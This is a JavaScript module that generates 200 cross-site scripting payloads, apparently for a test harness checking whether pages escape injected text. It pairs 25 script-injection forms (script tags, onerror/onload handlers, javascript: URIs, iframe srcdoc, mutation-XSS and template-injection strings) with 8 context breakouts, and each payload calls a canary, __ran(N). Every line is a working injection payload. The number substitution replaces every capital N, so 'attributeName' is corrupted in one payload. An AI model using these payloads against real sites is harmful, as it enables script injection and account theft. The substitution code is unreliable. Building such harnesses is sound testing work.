/** Ends of the places into which a careless page writes a text. */
const BREAKOUTS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '--><!-- -->', '&lt;'];

/**
 * Ways in which a text becomes a script. `N` is the number of the payload: what runs calls `__ran(N)`, and what becomes an element
 * carries `data-xss`.
 */
const TAGS = [
  '<script data-xss>__ran(N)</script>',
  '<ScRiPt data-xss>__ran(N)</sCrIpT >',
  '<script data-xss src="/canary-ran/N"></script>',
  '<img data-xss src=x onerror=__ran(N)>',
  '<img data-xss src="x" onerror="__ran(N)"/>',
  '<img/data-xss/src=x/onerror=__ran(N)>',
  '<svg data-xss onload=__ran(N)>',
  '<svg data-xss><script>__ran(N)</script></svg>',
  '<svg data-xss><animate onbegin=__ran(N) attributeName=x dur=1s>',
  '<iframe data-xss srcdoc="<script>parent.__ran(N)</script>"></iframe>',
  '<iframe data-xss src="javascript:parent.__ran(N)"></iframe>',
  '<object data-xss data="javascript:__ran(N)"></object>',
  '<a data-xss href="javascript:__ran(N)">x</a>',
  '<details data-xss open ontoggle=__ran(N)>',
  '<input data-xss autofocus onfocus=__ran(N)>',
  '<video data-xss><source onerror=__ran(N)></video>',
  '<style data-xss>@import "/canary-ran/N";</style>',
  '<link data-xss rel=stylesheet href="/canary-ran/N">',
  '<form data-xss><button formaction="javascript:__ran(N)" autofocus>x</button></form>',
  '<math data-xss><mtext><table><mglyph><style><img src=x onerror=__ran(N)>',
  '<noscript><p title="</noscript><img data-xss src=x onerror=__ran(N)>">',
  '<img data-xss src=x onerror=&#95;&#95;ran(N)>',
  '{{constructor.constructor("__ran(N)")()}}<b data-xss>',
  '${__ran(N)}<b data-xss onmouseover=__ran(N)>',
  '![x](javascript:__ran(N)) [x](javascript:__ran(N)) <b data-xss>',
];

const TEXTS = TAGS.flatMap((way) => BREAKOUTS.map((breakout) => `${breakout}${way}`));

export const WAYS = TEXTS.length;

/** 200 texts, `[number, text]`. */
export function payloads() {
  return TEXTS.map((_, at) => [at + 1, scriptOf(at, at + 1)]);
}

/** The script by `way`, counted on from the first one after the last; what runs calls `__ran(number)`. */
export function scriptOf(way, number) {
  return TEXTS[way % TEXTS.length].replaceAll('N', String(number));
}
